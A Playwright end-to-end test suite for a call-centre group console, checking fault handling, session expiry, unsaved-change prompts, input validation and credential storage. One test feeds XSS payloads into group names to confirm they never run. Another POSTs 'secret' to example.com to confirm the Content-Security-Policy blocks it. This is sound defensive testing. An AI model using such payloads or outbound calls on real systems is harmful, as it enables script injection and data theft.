/**
 * Issue 4: the console stays truthful and keeps what a supervisor typed when the
 * network or the server misbehaves. Each fault is switched on in the mock API for
 * this test's own account only, and after each one the test checks that the
 * screen agrees with what the mock holds.
 */
import type { Dialog, Page } from '@playwright/test';
import {
  confirmRowDeactivation,
  ApiTraffic,
  FAILED_TO_LOAD,
  SEEDED,
  at,
  expect,
  expectListMatchesServer,
  fillSignIn,
  groupRow,
  groupRows,
  test,
  twoFramesLater,
  webStorage,
} from './fixtures';

test.describe('a slow server', () => {
  test('a slow first load shows progress, can be cancelled, and loads on request', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    const traffic = new ApiTraffic(page);
    await mock.fault(account, { kind: 'latency', ms: 8_000, actions: ['list'], times: 1 });
    await page.reload();

    const loading = page.getByRole('status').filter({ hasText: 'Loading groups…' });
    await expect(loading).toBeVisible();
    await loading.getByRole('button', { name: 'Cancel' }).click();
    const stopped = page.getByRole('status').filter({ hasText: 'Loading stopped' });
    await expect(stopped).toContainText('you cancelled it');
    // A load that was not really stopped would fill the table when its reply came: wait for the request to end.
    await expect.poll(() => traffic.pending('list'), { timeout: 15_000 }).toBe(0);
    await twoFramesLater(page);
    await expect(groupRows(page)).toHaveCount(0);

    await stopped.getByRole('button', { name: 'Load groups' }).click();
    await expect(stopped).toBeHidden();
    await expectListMatchesServer(page, mock, account);
  });
});

test.describe('a failing server', () => {
  test.use({ expectedConsoleErrors: [FAILED_TO_LOAD] });

  for (const status of [500, 502, 503]) {
    test(`HTTP ${status} without a DeepCall body: the list retries with backoff, then says so, and Retry loads it`, async ({
      page,
      mock,
      account,
      signIn,
    }) => {
      await signIn(account);
      // Let the page's own first load finish, so only the reload's requests are counted.
      await expect(groupRows(page).first()).toBeVisible();
      const traffic = new ApiTraffic(page);
      await mock.fault(account, { kind: 'http', status, actions: ['list'] });
      await page.reload();

      const failed = page.getByRole('alert').filter({ hasText: 'Could not load groups' });
      await expect(failed).toContainText(`The DeepCall server had a problem (HTTP ${status}). Try again in a moment.`, {
        timeout: 20_000,
      });
      // The first try and three retries, each waiting longer than the one before.
      const tries = traffic.of('list').map((request) => request.at);
      expect(tries).toHaveLength(4);
      const waits = tries.slice(1).map((sent, i) => sent - at(tries, i));
      expect(at(waits, 0)).toBeGreaterThanOrEqual(400);
      expect(at(waits, 1)).toBeGreaterThan(at(waits, 0));
      expect(at(waits, 2)).toBeGreaterThan(at(waits, 1));
      await expect(groupRows(page)).toHaveCount(0);

      await mock.clearFaults(account);
      await failed.getByRole('button', { name: 'Retry' }).click();
      await expect(failed).toBeHidden();
      await expectListMatchesServer(page, mock, account);
    });
  }

  test('HTTP 500 with a DeepCall body: the server’s own words, and Retry loads the list', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    await mock.fault(account, { kind: 'http', status: 500, withBody: true, actions: ['list'] });
    await page.reload();

    const failed = page.getByRole('alert').filter({ hasText: 'Could not load groups' });
    await expect(failed).toContainText('Internal server error', { timeout: 20_000 });
    await mock.clearFaults(account);
    await failed.getByRole('button', { name: 'Retry' }).click();
    await expect(failed).toBeHidden();
    await expectListMatchesServer(page, mock, account);
  });

  test('a failed create is never retried by itself and keeps the typed name', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    const traffic = new ApiTraffic(page);
    await mock.fault(account, { kind: 'http', status: 503, actions: ['add'] });

    await page.getByRole('button', { name: 'New group' }).click();
    const dialog = page.getByRole('dialog', { name: 'New group' });
    await dialog.getByLabel('Name').fill('Night Desk');
    await dialog.getByRole('button', { name: 'Create' }).click();
    await expect(dialog.getByRole('alert').filter({ hasText: 'The group was not created' })).toContainText('HTTP 503');
    await expect(dialog.getByLabel('Name')).toHaveValue('Night Desk');
    // The dialog reports a failure only once the mutation has settled, after any retries: one request means none.
    expect(traffic.count('add')).toBe(1);
    expect(await mock.names(account)).toEqual([...SEEDED].sort());

    await mock.clearFaults(account);
    await dialog.getByRole('button', { name: 'Create' }).click();
    await expect(dialog).toBeHidden();
    // Create opens the new group's page; its row is on the list.
    await expect(page.getByRole('heading', { level: 1, name: 'Night Desk' })).toBeVisible();
    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(groupRow(page, 'Night Desk')).toBeVisible();
    expect(traffic.count('add')).toBe(2);
    await expectListMatchesServer(page, mock, account);
  });

  test('a reply that is not JSON: "does not understand", and Retry loads the list', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    await mock.fault(account, { kind: 'malformed', actions: ['list'] });
    await page.reload();

    const failed = page.getByRole('alert').filter({ hasText: 'Could not load groups' });
    await expect(failed).toContainText('The DeepCall server sent a reply the console does not understand', { timeout: 20_000 });
    await mock.clearFaults(account);
    await failed.getByRole('button', { name: 'Retry' }).click();
    await expectListMatchesServer(page, mock, account);
  });

  test('a reply of an unexpected shape: the loaded list stays on screen, a first load says "does not understand"', async ({
    page,
    mock,
    account,
    signIn,
  }) => {
    await signIn(account);
    const billing = groupRow(page, 'Billing');
    // The fault must not catch the list's first load, which may still be on its way after sign-in.
    await expect(billing).toBeVisible();
    await billing.getByRole('button', { name: 'Delete Billing' }).click();
    const dialog = page.getByRole('dialog', { name: 'Delete Billing?' });
    await expect(dialog).toContainText('agent');
    await mock.fault(account, { kind: 'shape', actions: ['list'] });

    // The delete is accepted; re-reading the list afterwards gets a reply of the wrong shape.
    await dialog.getByRole('button', { name: 'Delete', exact: true }).click();
    const refresh = page.getByRole('alert').filter({ hasText: 'Could not refresh' });
    await expect(refresh).toContainText('does not understand');
    await expect(refresh).toContainText('The list shows what was loaded before.');
    await expect(groupRows(page)).toHaveCount(SEEDED.length - 1);
    await mock.clearFaults(account);
    await expectListMatchesServer(page, mock, account);

    await mock.fault(account, { kind: 'shape', actions: ['list'] });
    await page.reload();
    const failed = page.getByRole('alert').filter({ hasText: 'Could not load groups' });
    await expect(failed).toContainText('does not understand', { timeout: 20_000 });
    await expect(groupRows(page)).toHaveCount(0);
    await mock.clearFaults(account);
    await failed.getByRole('button', { name: 'Retry' }).click();
    await expectListMatchesServer(page, mock, account);
  });

  test('a dropped connection: "Cannot reach", Retry loads the list, and a dropped delete deletes nothing', async ({
    page,
    mock,
    account,
    signIn,
    apiServer,
  }) => {
    const host = new URL(apiServer).host;
    await signIn(account);
    await mock.fault(account, { kind: 'drop', actions: ['list'] });
    await page.reload();

    const failed = page.getByRole('alert').filter({ hasText: 'Could not load groups' });
    await expect(failed).toContainText(`Cannot reach ${host}. Check your network connection`, { timeout: 20_000 });
    await mock.clearFaults(account);
    await failed.getByRole('button', { name: 'Retry' }).click();
    await expectListMatchesServer(page, mock, account);

    // Not `times: 1`: Chromium itself resends a request whose reused connection closed unanswered.
    await mock.fault(account, { kind: 'drop', actions: ['delete'] });
    await page.getByRole('button', { name: 'Delete Billing' }).click();
    const dialog = page.getByRole('dialog', { name: 'Delete Billing?' });
    await dialog.getByRole('button', { name: 'Delete', exact: true }).click();
    await expect(dialog.getByRole('alert').filter({ hasText: 'The group was not deleted' })).toContainText(`Cannot reach ${host}`);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(groupRow(page, 'Billing')).toBeVisible();
    await mock.clearFaults(account);
    await expectListMatchesServer(page, mock, account);
  });
});

test.describe('an ended session', () => {
  for (const code of [1014, 1020]) {
    test(`two requests refused at once (${code}) ask to sign in once, and the page and what was typed survive`, async ({
      page,
      mock,
      signIn,
    }) => {
      // Groups nobody answers: their switches flip at once, without the question a switch-off asks otherwise.
      const account = await mock.createSeededAccount({ seedGroups: SEEDED.length, seedAgents: 0 });
      await signIn(account, { method: 'token' });
      const traffic = new ApiTraffic(page);
      const search = page.getByLabel('Search groups');
      await search.fill('i');
      await expect(groupRows(page)).toHaveCount(2);
      await mock.fault(account, { kind: 'code', code, actions: ['update'] });
      const listReads = traffic.count('list');

      // Two switches flipped in the same instant: both requests come back refused.
      await page.evaluate(() => {
        for (const name of ['Inside Sales active', 'Billing active']) {
          document.querySelector<HTMLInputElement>(`input[aria-label="${name}"]`)?.click();
        }
      });
      const dialog = page.getByRole('dialog', { name: 'Your session has ended' });
      await expect(dialog).toBeVisible();
      await expect.poll(() => traffic.count('update')).toBe(2);
      await expect.poll(() => traffic.pending('update')).toBe(0);
      // Both refusals handled: each switch is back on, and the list was read again after the last one;
      // a second dialog or a notification would be on screen by now.
      await expect(page.getByRole('switch', { name: 'Inside Sales active' })).toBeChecked();
      await expect(page.getByRole('switch', { name: 'Billing active' })).toBeChecked();
      await expect.poll(() => traffic.count('list') > listReads && traffic.pending('list') === 0).toBe(true);
      await twoFramesLater(page);
      await expect(page.getByRole('dialog')).toHaveCount(1);
      // No stack of notifications either: the dialog says it all.
      await expect(page.getByText(/was not (de)?activated/)).toHaveCount(0);

      await mock.clearFaults(account);
      await dialog.getByLabel('Token', { exact: true }).fill(account.token);
      await dialog.getByRole('button', { name: 'Sign in' }).click();
      await expect(dialog).toBeHidden();
      await expect(page.getByRole('dialog')).toHaveCount(0);
      await expect(page).toHaveURL(/\/groups\?q=i$/);
      await expect(search).toHaveValue('i');
      await expect(page.getByRole('switch', { name: 'Inside Sales active' })).toBeChecked();
      await expect(page.getByRole('switch', { name: 'Billing active' })).toBeChecked();

      await search.fill('');
      await expectListMatchesServer(page, mock, account);
      expect((await mock.list(account)).every((group) => Number(group.status) === 1)).toBe(true);
    });
  }
});

test.describe('the status switch tells the truth', () => {
  test('a refused activation flips back, says why, and the server still holds the old status', async ({
    page,
    mock,
    account,
    signIn,
  }) => {
    const support = await mock.get(account, 'Support');
    await mock.update(account, { groupId: support.id, name: 'Support', status: 0 });
    await signIn(account);
    await mock.fault(account, { kind: 'code', code: 1015, actions: ['update'], times: 1 });

    const active = page.getByRole('switch', { name: 'Support active' });
    await expect(active).not.toBeChecked();
    await active.click();
    const refused = page.getByRole('alert').filter({ hasText: 'Support was not activated' });
    await expect(refused).toContainText('not allowed');
    await expect(active).not.toBeChecked();
    await expect(groupRow(page, 'Support')).toContainText('Inactive');
    expect((await mock.get(account, 'Support')).status).toBe(0);
    await expectListMatchesServer(page, mock, account);
  });

  test('five quick flips of one switch are sent in order and end equal to the server', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    const traffic = new ApiTraffic(page);
    // Slow enough that every click lands while an earlier change is still on its way.
    await mock.fault(account, { kind: 'latency', ms: 300, actions: ['update'], times: 5 });

    const active = page.getByRole('switch', { name: 'Billing active' });
    for (let i = 0; i < 5; i++) {
      await active.click();
      // Every switch-off of a group whose agents take its calls is asked first.
      if (i % 2 === 0) await confirmRowDeactivation(page, 'Billing');
    }

    await expect.poll(() => traffic.count('update'), { timeout: 15_000 }).toBe(5);
    await expect.poll(() => traffic.pending('update'), { timeout: 15_000 }).toBe(0);
    expect(traffic.of('update').map((request) => request.body.status)).toEqual([0, 1, 0, 1, 0]);
    await expect(active).not.toBeChecked();
    expect((await mock.get(account, 'Billing')).status).toBe(0);
    await expectListMatchesServer(page, mock, account);
  });
});

test.describe('a request that hangs', () => {
  test('is abandoned after the timeout with a message saying so, and the switch flips back', async ({ page, mock, account, signIn }) => {
    // The console's own clock runs fast-forwarded, so its 15 s timeout passes in an instant.
    await page.clock.install();
    await signIn(account);
    await mock.fault(account, { kind: 'latency', ms: 60_000, actions: ['update'], times: 1 });

    const active = page.getByRole('switch', { name: 'Billing active' });
    await active.click();
    await confirmRowDeactivation(page, 'Billing');
    await expect(active).not.toBeChecked();
    await page.clock.fastForward('00:16');
    const timedOut = page.getByRole('alert').filter({ hasText: 'Billing was not deactivated' });
    await expect(timedOut).toContainText('did not answer within 15 seconds');
    await expect(active).toBeChecked();
    expect((await mock.get(account, 'Billing')).status).toBe(1);
  });
});

test.describe('data changed elsewhere', () => {
  test('the list is re-read when the window regains focus after 30 s', async ({ page, mock, account, signIn }) => {
    await page.clock.install();
    await signIn(account);
    const billing = await mock.get(account, 'Billing');
    await mock.update(account, { groupId: billing.id, name: 'Billing Elsewhere', status: 0 });

    await page.clock.fastForward('00:31');
    // What the browser fires when the supervisor comes back to the tab.
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange', { bubbles: true })));
    await expect(groupRow(page, 'Billing Elsewhere')).toBeVisible();
    await expectListMatchesServer(page, mock, account);
  });
});

test.describe('a group deleted elsewhere (1503)', () => {
  test('switching it explains that it is gone and refreshes the list', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    await mock.remove(account, (await mock.get(account, 'Billing')).id);

    await page.getByRole('switch', { name: 'Billing active' }).click();
    const gone = page.getByRole('alert').filter({ hasText: 'Billing no longer exists' });
    await expect(gone).toContainText('It was deleted elsewhere. The list has been refreshed.');
    await expect(groupRow(page, 'Billing')).toHaveCount(0);
    await expectListMatchesServer(page, mock, account);
  });

  test('saving it explains that it is gone, keeps the typed name, and the list is refreshed', async ({
    page,
    mock,
    account,
    signIn,
  }) => {
    await signIn(account);
    await page.getByRole('link', { name: 'Billing', exact: true }).click();
    const name = page.getByLabel('Name');
    await expect(name).toHaveValue('Billing');
    await mock.remove(account, (await mock.get(account, 'Billing')).id);

    await name.fill('Billing Renamed');
    await page.getByRole('button', { name: 'Save' }).click();
    const gone = page.getByRole('alert').filter({ hasText: 'This group no longer exists' });
    await expect(gone).toContainText('deleted in another tab or by another supervisor');
    await expect(name).toHaveValue('Billing Renamed');
    await expect(page.getByRole('button', { name: 'Save' })).toBeDisabled();
    expect(await mock.find(account, 'Billing Renamed')).toBeUndefined();

    // Nothing left to save, so leaving does not ask.
    await gone.getByRole('link', { name: 'Back to all groups' }).click();
    await expect(page).toHaveURL(/\/groups$/);
    // The list is shown (a question before leaving would have kept the page): only now can Billing be missed.
    await expect(groupRow(page, 'Inside Sales')).toBeVisible();
    await expect(page.getByRole('dialog', { name: 'Leave without saving?' })).toHaveCount(0);
    await expect(groupRow(page, 'Billing')).toHaveCount(0);
    await expectListMatchesServer(page, mock, account);
  });
});

test.describe('double submission', () => {
  test('a double click on Sign in sends one request', async ({ page, mock, account, apiServer }) => {
    const traffic = new ApiTraffic(page);
    await mock.fault(account, { kind: 'latency', ms: 500, actions: ['list'], times: 1 });
    await page.goto('/login');
    await fillSignIn(page, account, 'ssid', apiServer);
    await page.getByRole('button', { name: 'Sign in' }).dblclick();

    await expect(page).toHaveURL(/\/groups$/);
    await expect(groupRow(page, 'Billing')).toBeVisible();
    // Sign-in checks the credentials with one quick list; the groups page then reads the full list.
    expect(traffic.count('list', (body) => body.quick === true)).toBe(1);
  });

  test('a double click on Create, Save or Delete sends one request each', async ({ page, mock, account, signIn }) => {
    await signIn(account);
    const traffic = new ApiTraffic(page);
    // Every change slow, so the second click lands while the first request is still out.
    await mock.fault(account, { kind: 'latency', ms: 400, actions: ['add', 'update', 'delete'] });

    await page.getByRole('button', { name: 'New group' }).click();
    const create = page.getByRole('dialog', { name: 'New group' });
    await create.getByLabel('Name').fill('Night Desk');
    await create.getByRole('button', { name: 'Create' }).dblclick();
    await expect(create).toBeHidden();
    // Create opens the new group's page; back on the list, its row.
    await expect(page.getByRole('heading', { level: 1, name: 'Night Desk' })).toBeVisible();
    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(groupRow(page, 'Night Desk')).toBeVisible();
    expect(traffic.count('add')).toBe(1);

    await page.getByRole('link', { name: 'Billing', exact: true }).click();
    await page.getByLabel('Name').fill('Billing Renamed');
    await page.getByRole('button', { name: 'Save' }).dblclick();
    await expect(page.getByRole('heading', { level: 1, name: 'Billing Renamed' })).toBeVisible();
    await expect.poll(() => traffic.pending('update')).toBe(0);
    expect(traffic.count('update')).toBe(1);

    await page.getByRole('button', { name: 'Delete group' }).click();
    const remove = page.getByRole('dialog', { name: 'Delete Billing Renamed?' });
    await remove.getByRole('button', { name: 'Delete', exact: true }).dblclick();
    await expect(page).toHaveURL(/\/groups$/);
    await expect(groupRow(page, 'Inside Sales')).toBeVisible();
    expect(traffic.count('delete')).toBe(1);
    // A second delete would say the group was already gone once its reply came: wait for every reply.
    await expect.poll(() => traffic.pending('delete')).toBe(0);
    await twoFramesLater(page);
    await expect(page.getByText('Already gone')).toHaveCount(0);

    // Still one each, now that everything has settled.
    expect([traffic.count('add'), traffic.count('update'), traffic.count('delete')]).toEqual([1, 1, 1]);
    await mock.clearFaults(account);
    expect(await mock.names(account)).toEqual(['Inside Sales', 'Night Desk', 'Support']);
    await expectListMatchesServer(page, mock, account);
  });
});

test.describe('unsaved changes', () => {
  /** Opens Billing's edit page and types a new name without saving; returns the page's address. */
  async function draftBillingRename(page: Page): Promise<string> {
    await page.getByRole('link', { name: 'Billing', exact: true }).click();
    await expect(page).toHaveURL(/\/groups\/\d+$/);
    await page.getByLabel('Name').fill('Billing Draft');
    return page.url();
  }

  test('leaving a changed form asks first (link, back button, closing the tab), never after a save', async ({
    page,
    mock,
    account,
    signIn,
  }) => {
    await signIn(account);
    const editUrl = await draftBillingRename(page);
    const name = page.getByLabel('Name');
    const leave = page.getByRole('dialog', { name: 'Leave without saving?' });

    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(leave).toBeVisible();
    await leave.getByRole('button', { name: 'Stay on this page' }).click();
    await expect(leave).toBeHidden();
    await expect(name).toHaveValue('Billing Draft');
    expect(page.url()).toBe(editUrl);

    await page.goBack();
    await expect(leave).toBeVisible();
    await leave.getByRole('button', { name: 'Stay on this page' }).click();
    await expect(name).toHaveValue('Billing Draft');
    await expect(page).toHaveURL(editUrl);

    // Closing the tab gets the browser's own question; staying keeps the page.
    const unload = new Promise<Dialog>((resolve) => page.once('dialog', resolve));
    await page.close({ runBeforeUnload: true });
    const question = await unload;
    expect(question.type()).toBe('beforeunload');
    await question.dismiss();
    await expect(name).toHaveValue('Billing Draft');

    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Billing Draft' })).toBeVisible();
    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(page).toHaveURL(/\/groups$/);
    await expect(groupRow(page, 'Billing Draft')).toBeVisible();
    await expect(leave).toHaveCount(0);
    await expectListMatchesServer(page, mock, account);
  });

  test('back with unsaved changes: "Leave without saving" carries out the back step, forward returns', async ({
    page,
    account,
    signIn,
  }) => {
    await signIn(account);
    const editUrl = await draftBillingRename(page);

    await page.goBack();
    const leave = page.getByRole('dialog', { name: 'Leave without saving?' });
    await expect(leave).toBeVisible();
    // While the console asks, the address is the page's own again.
    await expect(page).toHaveURL(editUrl);
    await leave.getByRole('button', { name: 'Leave without saving' }).click();
    await expect(page).toHaveURL(/\/groups$/);
    await expect(page.getByRole('heading', { level: 1, name: 'Groups' })).toBeVisible();
    await expect(groupRow(page, 'Billing')).toBeVisible();

    await page.goForward();
    await expect(page).toHaveURL(editUrl);
    await expect(page.getByLabel('Name')).toHaveValue('Billing');
  });
});

test.describe('bad input', () => {
  test('names are trimmed, and blank, too long or control-character names are refused with a message', async ({
    page,
    mock,
    account,
    signIn,
  }) => {
    await signIn(account);
    const traffic = new ApiTraffic(page);
    await page.getByRole('button', { name: 'New group' }).click();
    const dialog = page.getByRole('dialog', { name: 'New group' });
    const name = dialog.getByLabel('Name');
    const create = dialog.getByRole('button', { name: 'Create' });

    await name.fill('     ');
    await create.click();
    await expect(dialog).toContainText('Enter a name for the group.');

    const long = 'x'.repeat(1_000);
    await name.fill(long);
    await create.click();
    await expect(dialog).toContainText('Keep the name to 100 characters or fewer.');
    await expect(name).toHaveValue(long);

    await name.fill('Night\tDesk');
    await create.click();
    await expect(dialog).toContainText('Remove the line breaks or control characters from the name.');
    expect(traffic.count('add')).toBe(0);

    await name.fill('   Night Desk   ');
    await create.click();
    await expect(dialog).toBeHidden();
    await expect(page.getByRole('heading', { level: 1, name: 'Night Desk' })).toBeVisible();
    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(groupRow(page, 'Night Desk')).toBeVisible();
    expect(await mock.names(account)).toEqual([...SEEDED, 'Night Desk'].sort());
    await expectListMatchesServer(page, mock, account);
  });

  test('emoji and right-to-left names make the round trip exactly', async ({ page, mock, account, signIn }) => {
    const created = 'Ventas 🚀 مبيعات ✓';
    const renamed = 'فريق الدعم 👩‍💻 Ünïcødé';
    await signIn(account);

    await page.getByRole('button', { name: 'New group' }).click();
    const dialog = page.getByRole('dialog', { name: 'New group' });
    await dialog.getByLabel('Name').fill(created);
    await dialog.getByRole('button', { name: 'Create' }).click();
    await expect(dialog).toBeHidden();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(created);
    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(groupRow(page, created)).toBeVisible();
    expect(await mock.find(account, created)).toMatchObject({ name: created, status: 1 });

    await page.getByRole('link', { name: created, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(created);
    await expect(page.getByLabel('Name')).toHaveValue(created);
    await page.getByLabel('Name').fill(renamed);
    await page.getByRole('button', { name: 'Save' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(renamed);
    await expect.poll(() => mock.find(account, renamed)).toMatchObject({ name: renamed, status: 1 });
    expect(await mock.find(account, created)).toBeUndefined();

    await page.getByRole('link', { name: '← All groups' }).click();
    await expect(groupRow(page, renamed)).toBeVisible();
    await expectListMatchesServer(page, mock, account);
  });

  test('markup in names is shown as text everywhere and never runs', async ({ page, mock, account, signIn }) => {
    const browserDialogs: string[] = [];
    page.on('dialog', (dialog) => {
      browserDialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const img = '<img src=x onerror=alert(1)>';
    const script = '<script>alert(2)</script>';
    await signIn(account);

    for (const payload of [img, script]) {
      await page.getByRole('button', { name: 'New group' }).click();
      const dialog = page.getByRole('dialog', { name: 'New group' });
      await dialog.getByLabel('Name').fill(payload);
      await dialog.getByRole('button', { name: 'Create' }).click();
      await expect(dialog).toBeHidden();
      // The notification…
      await expect(page.getByRole('alert').filter({ hasText: `${payload} is ready.` })).toBeVisible();
      // …the new group's page, which Create opens…
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(payload);
      // …and the list.
      await page.getByRole('link', { name: '← All groups' }).click();
      await expect(groupRow(page, payload)).toBeVisible();
      expect(await mock.find(account, payload)).toMatchObject({ name: payload });
    }

    // The edit page's heading and the delete dialog.
    await page.getByRole('link', { name: img, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(img);
    await page.getByRole('button', { name: 'Delete group' }).click();
    const remove = page.getByRole('dialog', { name: `Delete ${img}?` });
    await expect(remove).toContainText(`Delete ${img}?`);
    await expect(remove).toContainText('Its agent assignments are deleted with it.');
    await remove.getByRole('button', { name: 'Cancel' }).click();

    // Recent changes.
    await page.getByRole('button', { name: /^Recent changes/ }).click();
    const history = page.getByRole('dialog', { name: 'Recent changes' });
    await expect(history).toContainText(`Created ${img}`);
    await expect(history).toContainText(`Created ${script}`);

    // Nothing was turned into markup, and nothing ran.
    expect(await page.locator('img').count()).toBe(0);
    expect(await page.locator('script', { hasText: 'alert' }).count()).toBe(0);
    expect(browserDialogs).toEqual([]);
  });
});

test.describe('credentials', () => {
  test('the session lives in sessionStorage (localStorage with Remember me), never in a URL, and sign-out clears it', async ({
    page,
    account,
    signIn,
    apiServer,
  }) => {
    const traffic = new ApiTraffic(page);
    const secrets = [account.token, account.ssid];
    const expectNoSecret = (text: string, where: string) => {
      for (const secret of secrets) expect(text, `${where} holds a credential`).not.toContain(secret);
    };

    await signIn(account, { method: 'token' });
    let stored = await webStorage(page);
    expect(stored.session).toContain(account.token);
    expectNoSecret(stored.local, 'localStorage');
    // Walk around a little: a group, a search, back to the list.
    await page.getByRole('link', { name: 'Billing', exact: true }).click();
    await expect(page.getByLabel('Name')).toHaveValue('Billing');
    await page.getByRole('link', { name: '← All groups' }).click();
    await page.getByLabel('Search groups').fill('sup');
    await expect(groupRows(page)).toHaveCount(1);
    expectNoSecret(await page.locator('body').innerText(), 'the page text');

    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page).toHaveURL(/\/login$/);
    stored = await webStorage(page);
    for (const secret of [...secrets, account.userId]) {
      expect(stored.session).not.toContain(secret);
      expect(stored.local).not.toContain(secret);
    }

    // Remember me: localStorage instead, and sign-out clears that too.
    await fillSignIn(page, account, 'ssid', apiServer);
    await page.getByLabel('Remember me on this computer').check();
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
    stored = await webStorage(page);
    expect(stored.local).toContain(account.ssid);
    expectNoSecret(stored.session, 'sessionStorage');
    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page).toHaveURL(/\/login$/);
    stored = await webStorage(page);
    for (const secret of [...secrets, account.userId]) {
      expect(stored.session).not.toContain(secret);
      expect(stored.local).not.toContain(secret);
    }

    expect(traffic.urls.length).toBeGreaterThan(5);
    for (const url of [...traffic.urls, page.url()]) expectNoSecret(url, `the URL ${url}`);
  });

  test('the production page carries a Content-Security-Policy that lets it reach only itself and the API host', async ({
    page,
    apiServer,
  }) => {
    await page.goto('/login');
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy, 'no Content-Security-Policy meta tag').toBeTruthy();
    const directives = new Map(
      (policy ?? '')
        .split(';')
        .map((part) => part.trim().split(/\s+/))
        .filter((words) => words[0])
        .map(([name, ...values]) => [name, values]),
    );
    expect(directives.get('connect-src')).toEqual(["'self'", new URL(apiServer).origin]);
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
  });

  test.describe(() => {
    // Chromium reports the blocked request on the console: that is the point of this test.
    test.use({ expectedConsoleErrors: [/https:\/\/example\.com\/collect.*Content Security Policy/] });

    test('the browser refuses to send anything to another host', async ({ page }) => {
      await page.goto('/login');
      const violation = await page.evaluate(async () => {
        const reported = new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`), {
            once: true,
          });
        });
        await fetch('https://example.com/collect', { method: 'POST', body: 'secret' }).catch(() => undefined);
        return Promise.race([reported, new Promise<string>((resolve) => setTimeout(() => resolve('no violation'), 2_000))]);
      });
      expect(violation).toBe('connect-src https://example.com/collect');
    });
  });
});
